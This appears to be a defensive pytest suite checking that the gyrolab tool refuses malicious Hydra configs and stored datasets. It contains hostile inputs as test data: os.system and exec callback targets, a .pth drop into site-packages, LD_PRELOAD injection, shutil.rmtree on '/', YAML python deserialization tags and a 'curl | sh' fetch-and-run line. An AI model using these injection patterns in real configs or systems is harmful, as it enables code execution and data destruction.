"""No config and no dataset can run code or write outside the run directory (gyrolab.engine.safety).

Threat model: YAML (a command line, an experiment, a whole config directory) or a run.nc
written by someone else. Each attack must be refused in one sentence naming the key, with
nothing run and no file left behind.
"""

import textwrap
from pathlib import Path

import numpy as np
import pytest
import xarray as xr

from gyrolab.engine.config import compose_config
from gyrolab.engine.safety import check_config
from gyrolab.errors import ConfigError
from tests.helpers import files_under, run_main


def refused(argv, tmp_path, monkeypatch, capsys, key):
    """Run gyrolab in this process; assert a one-sentence refusal naming ``key`` and no new file."""
    monkeypatch.chdir(tmp_path)
    before = files_under(tmp_path)
    code, err = run_main([*argv, "hydra.run.dir=out", "hydra.sweep.dir=sweep"], monkeypatch, capsys)
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("gyrolab: error: ") and "Traceback" not in err, err
    assert key in lines[0], (key, lines[0])
    assert files_under(tmp_path) == before
    return lines[0]


def user_dir(tmp_path: Path, name: str, text: str) -> Path:
    """A user's config directory holding ``name`` (a path such as experiment/evil.yaml)."""
    path = tmp_path / "conf" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text))
    return tmp_path / "conf"


# ---- callbacks, launchers, sweepers -----------------------------------------------------------------------

def test_copyfile_callback_on_the_command_line_is_refused(tmp_path, monkeypatch, capsys):
    (tmp_path / "secret").write_text("s")
    refused(["+hydra.callbacks.x._target_=shutil.copyfile", f"+hydra.callbacks.x.src={tmp_path}/secret",
             f"+hydra.callbacks.x.dst={tmp_path}/copied"], tmp_path, monkeypatch, capsys,
            "hydra.callbacks.x._target_='shutil.copyfile'")
    assert not (tmp_path / "copied").exists()


def test_pth_dropped_by_a_primary_config_is_refused_in_a_real_process(cli, tmp_path):
    """The issue's attack: a primary config from --config-dir copies a .pth file into site-packages."""
    site = tmp_path / "fake-site-packages"
    site.mkdir()
    (tmp_path / "payload.pth").write_text("import os; os.system('touch PWNED')\n")
    conf = user_dir(tmp_path, "evil.yaml", f"""\
        defaults:
          - config
          - _self_
        hydra:
          callbacks:
            drop:
              _target_: shutil.copyfile
              src: {tmp_path}/payload.pth
              dst: {site}/evil.pth
        """)
    done = cli("--config-dir", str(conf), "--config-name", "evil", "hydra.run.dir=out")
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "gyrolab: error: hydra.callbacks.drop._target_='shutil.copyfile' is not allowed; under hydra a config may "
        "name only gyrolab's sweep callback and the installed launchers and sweepers (BaseSubmititLauncher, "
        "BasicLauncher, BasicSweeper, GyrolabSweeper, JoblibLauncher, LocalLauncher, SlurmLauncher, SweepCallback)"]
    assert list(site.iterdir()) == [] and not (tmp_path / "PWNED").exists() and not (tmp_path / "out").exists()


EVIL_EXPERIMENT = """\
    # @package _global_
    hydra:
      callbacks:
        x:
          _target_: {target}
          {args}
    """


@pytest.fixture(scope="module")
def composed():
    """gyrolab's default config with its hydra node, composed once; tests change copies of it."""
    return compose_config([], return_hydra_config=True)


def check_variant(composed, tmp_path, key, yaml_text):
    """check_config on the default config with node ``key`` replaced by ``yaml_text``: the refusal sentence."""
    from omegaconf import OmegaConf, open_dict

    cfg = composed.copy()
    with open_dict(cfg):
        OmegaConf.update(cfg, key, OmegaConf.create(textwrap.dedent(yaml_text)), merge=False, force_add=True)
    with pytest.raises(ConfigError) as refusal:
        check_config(cfg, tmp_path / "out")
    return str(refusal.value)


@pytest.mark.parametrize("target, args", [
    ("shutil.copyfile", "src: /etc/hostname\ndst: COPIED"),
    ("os.system", "_args_: ['touch PWNED']"),
    ("builtins.exec", "_args_: ['open(\"PWNED\", \"w\")']"),
    ("subprocess.run", "args: [touch, PWNED]"),
    ("hydra.experimental.callbacks.PickleJobInfoCallback", ""),
    ("gyrolab.sweep.callbacks.SweepCallback\nfigures:\n  _target_: os.system", ""),  # nested in an allowed one
])
def test_callback_targets_are_on_an_allowlist(target, args, composed, tmp_path):
    sentence = check_variant(composed, tmp_path, "hydra.callbacks.x", f"_target_: {target}\n{args}")
    assert sentence.startswith("hydra.callbacks.x.") and "is not allowed" in sentence


@pytest.mark.parametrize("how", ["+experiment=evil", "experiment=evil"])
def test_callback_from_a_user_experiment_is_refused(how, tmp_path, monkeypatch, capsys):
    conf = user_dir(tmp_path, "experiment/evil.yaml", EVIL_EXPERIMENT.format(target="os.system",
                                                                             args="_args_: ['touch PWNED']"))
    refused(["--config-dir", str(conf), how], tmp_path, monkeypatch, capsys, "hydra.callbacks.x._target_")
    assert not (tmp_path / "PWNED").exists()


def test_callback_through_hydra_searchpath_is_refused(tmp_path, monkeypatch, capsys):
    conf = user_dir(tmp_path, "experiment/evil.yaml", EVIL_EXPERIMENT.format(target="os.system", args=""))
    refused([f"hydra.searchpath=[file://{conf}]", "experiment=evil"], tmp_path, monkeypatch, capsys,
            "hydra.callbacks.x._target_='os.system'")


def test_the_second_option_of_a_swept_group_is_checked_too(tmp_path, monkeypatch, capsys):
    conf = user_dir(tmp_path, "experiment/evil.yaml", EVIL_EXPERIMENT.format(target="os.system", args=""))
    (conf / "experiment" / "good.yaml").write_text("# @package _global_\ntime:\n  end: 1.0\n")
    refused(["-m", "--config-dir", str(conf), "experiment=good,evil"], tmp_path, monkeypatch, capsys,
            "hydra.callbacks.x._target_='os.system'")


def test_a_sweep_declared_in_a_config_file_cannot_set_hydra(tmp_path, monkeypatch, capsys):
    conf = user_dir(tmp_path, "experiment/sweeps.yaml", """\
        # @package _global_
        hydra:
          sweeper:
            params:
              +hydra.callbacks.x._target_: shutil.copyfile
        """)
    refused(["-m", "--config-dir", str(conf), "experiment=sweeps"], tmp_path, monkeypatch, capsys,
            "hydra.sweeper.params.hydra.callbacks.x._target_ sweeps a Hydra setting")


@pytest.mark.parametrize("key, text, named", [
    ("hydra.launcher", "_target_: os.system", "hydra.launcher._target_='os.system'"),
    ("hydra.sweeper", "_target_: builtins.exec", "hydra.sweeper._target_='builtins.exec'"),
    ("hydra.job.env_set", "LD_PRELOAD: /tmp/evil.so", "hydra.job.env_set.LD_PRELOAD"),
    ("hydra.job.env_set", "PYTHONSTARTUP: /tmp/evil.py", "hydra.job.env_set.PYTHONSTARTUP"),
    ("force.newtonian", "_target_: os.system", "force.newtonian._target_='os.system'"),
    ("extra", "_target_: shutil.rmtree\npath: /", "extra._target_='shutil.rmtree'"),
])
def test_targets_and_settings_anywhere_are_checked(key, text, named, composed, tmp_path):
    assert named in check_variant(composed, tmp_path, key, text)


@pytest.mark.parametrize("override, key", [
    ("hydra.callbacks.sweep.figures={_target_:os.system,_args_:[touch PWNED]}", "hydra.callbacks.sweep.figures._target_"),
    ("+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so", "hydra.job.env_set.LD_PRELOAD"),
])
def test_targets_and_settings_on_the_command_line_are_refused(override, key, tmp_path, monkeypatch, capsys):
    refused([override], tmp_path, monkeypatch, capsys, key)
    assert not (tmp_path / "PWNED").exists()


# ---- logging ---------------------------------------------------------------------------------------------

LOGGING = {
    "log file outside": ("handlers:\n  file:\n    class: logging.FileHandler\n    filename: {outside}/evil.log",
                         "handlers.file.filename"),
    "log file by traversal": ("handlers:\n  file:\n    class: logging.FileHandler\n    filename: ../../evil.log",
                              "handlers.file.filename"),
    "a .pth log file in the run dir": (
        "handlers:\n  file:\n    class: logging.FileHandler\n    filename: ${{hydra.runtime.output_dir}}/x.pth",
        "handlers.file.filename"),
    "handler class": ("handlers:\n  h:\n    class: shutil.copyfile", "handlers.h.class='shutil.copyfile'"),
    "handler factory": ("handlers:\n  h:\n    '()': os.system\n    command: touch PWNED", "handlers.h.()"),
    "formatter factory": ("formatters:\n  f:\n    '()': os.system\n    command: touch PWNED", "formatters.f.()"),
    "formatter class": ("formatters:\n  f:\n    class: os.system", "formatters.f.class"),
    "filter factory": ("filters:\n  f:\n    '()': os.system\n    command: touch PWNED", "filters.f.()"),
    "attribute setter": ("handlers:\n  h:\n    class: logging.FileHandler\n    filename: x.log\n    delay: true\n"
                         "    '.':\n      baseFilename: {outside}/evil.log", "handlers.h.."),
    "ext object": ("handlers:\n  h:\n    class: logging.StreamHandler\n    stream: ext://os.environ",
                   "handlers.h.stream='ext://os.environ'"),
}


@pytest.mark.parametrize("name", LOGGING)
@pytest.mark.parametrize("which", ["job_logging", "hydra_logging"])
def test_logging_configs_cannot_run_code_or_write_outside(name, which, composed, tmp_path):
    body, key = LOGGING[name]
    text = "version: 1\n" + body.format(outside=tmp_path / "elsewhere") + "\nroot:\n  handlers: []\n"
    assert f"hydra.{which}.{key}" in check_variant(composed, tmp_path, f"hydra.{which}", text)


def test_a_logging_config_in_a_user_directory_is_refused(tmp_path, monkeypatch, capsys):
    text = "version: 1\n" + LOGGING["handler factory"][0] + "\nroot:\n  handlers: []\n"
    conf = user_dir(tmp_path, "hydra/job_logging/evil.yaml", text)
    refused(["--config-dir", str(conf), "hydra/job_logging=evil"], tmp_path, monkeypatch, capsys,
            "hydra.job_logging.handlers.h.()")
    assert not (tmp_path / "PWNED").exists()


def test_log_file_aimed_outside_on_the_command_line(tmp_path, monkeypatch, capsys):
    refused([f"hydra.job_logging.handlers.file.filename={tmp_path}/../evil.log"], tmp_path, monkeypatch, capsys,
            "hydra.job_logging.handlers.file.filename")
    assert not (tmp_path.parent / "evil.log").exists()


@pytest.mark.parametrize("key, text, named", [
    ("hydra.output_subdir", "../../.hydra", "hydra.output_subdir"),
    ("hydra.job.name", "../../evil", "hydra.job.name"),
    ("hydra.launcher", "submitit_folder: /tmp/elsewhere/%j", "hydra.launcher.submitit_folder"),
])
def test_hydra_paths_stay_inside_the_run_directory(key, text, named, composed, tmp_path):
    from omegaconf import OmegaConf, open_dict

    cfg = composed.copy()
    with open_dict(cfg):
        if key == "hydra.launcher":
            cfg.hydra.launcher = OmegaConf.create({"_target_": "hydra._internal.core_plugins.basic_launcher."
                                                   "BasicLauncher", "submitit_folder": text.split(": ", 1)[1]})
        else:
            OmegaConf.update(cfg, key, text, merge=False)
    with pytest.raises(ConfigError, match=named.replace(".", r"\.")):
        check_config(cfg, tmp_path / "out")


def test_cluster_shell_lines_from_a_config_file_are_refused(tmp_path, monkeypatch, capsys):
    conf = user_dir(tmp_path, "experiment/cluster.yaml", """\
        # @package _global_
        defaults:
          - override /hydra/launcher: slurm
        hydra:
          launcher:
            setup: [curl https://example.invalid/x | sh]
        """)
    refused(["-m", "--config-dir", str(conf), "experiment=cluster", "time.end=1,2"], tmp_path, monkeypatch, capsys,
            "hydra.launcher.setup")


def test_safe_configs_pass(tmp_path, monkeypatch):
    """The packaged settings, the launchers and shell lines typed by the user are accepted."""
    monkeypatch.chdir(tmp_path)
    for overrides in ([], ["hydra/launcher=joblib", "hydra/job_logging=stdout", "+hydra.job.env_set.OMP_NUM_THREADS=1"],
                      ["hydra/launcher=slurm", "hydra.launcher.setup=[module load x]"]):
        cfg = compose_config(overrides, return_hydra_config=True)
        check_config(cfg, Path(cfg.hydra.sweep.dir), command_line=overrides, job_subdir=True)
    assert list(tmp_path.iterdir()) == []


# ---- --reproduce of a dataset from someone else ----------------------------------------------------------

STORED = {
    "python tag": ("!!python/object/apply:os.system ['touch PWNED']", "refuses tags"),
    "python tag deeper": ("time:\n  end: !!python/object/apply:os.system ['touch PWNED']\n", "refuses tags"),
    "not YAML": ("time: [1, 2\n", "is not plain YAML"),
    "not a mapping": ("- 1\n- 2\n", "not a YAML mapping"),
    "interpolation": ("time:\n  end: ${oc.env:HOME}\n", "interpolation"),
    "foreign target": ("integrator:\n  _target_: os.system\n", "integrator._target_='os.system'"),
    "target elsewhere": ("extra:\n  _target_: shutil.rmtree\n  path: /\n", "extra._target_"),
}


@pytest.mark.parametrize("name", STORED)
def test_reproduce_refuses_a_dangerous_stored_config(name, tmp_path, monkeypatch, capsys):
    text, phrase = STORED[name]
    xr.Dataset({"x": ("time", np.zeros(2))}, attrs={"config": text}).to_netcdf(tmp_path / "run.nc")
    monkeypatch.chdir(tmp_path)
    code, err = run_main(["--reproduce", "run.nc"], monkeypatch, capsys)
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and phrase in lines[0] and "Traceback" not in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run.nc"]


def test_reproduce_refuses_a_stored_config_beyond_the_budget(composed):
    from omegaconf import OmegaConf

    from gyrolab.sweep.reproduce import stored_config

    cfg = OmegaConf.masked_copy(composed, [k for k in composed if k != "hydra"])
    cfg.time.end = 1.0e12
    with pytest.raises(ConfigError, match="integrator steps"):
        stored_config(xr.Dataset(attrs={"config": OmegaConf.to_yaml(cfg, resolve=True)}))


def test_help_commands_do_not_configure_a_dangerous_logging_config(tmp_path, monkeypatch, capsys):
    """--help and --hydra-help configure Hydra's logging from the config: checked first as well."""
    text = "version: 1\n" + LOGGING["formatter factory"][0] + "\nroot:\n  handlers: []\n"
    conf = user_dir(tmp_path, "hydra/hydra_logging/evil.yaml", text)
    refused(["--hydra-help", "--config-dir", str(conf), "hydra/hydra_logging=evil"], tmp_path, monkeypatch, capsys,
            "hydra.hydra_logging.formatters.f.()")
    assert not (tmp_path / "PWNED").exists()
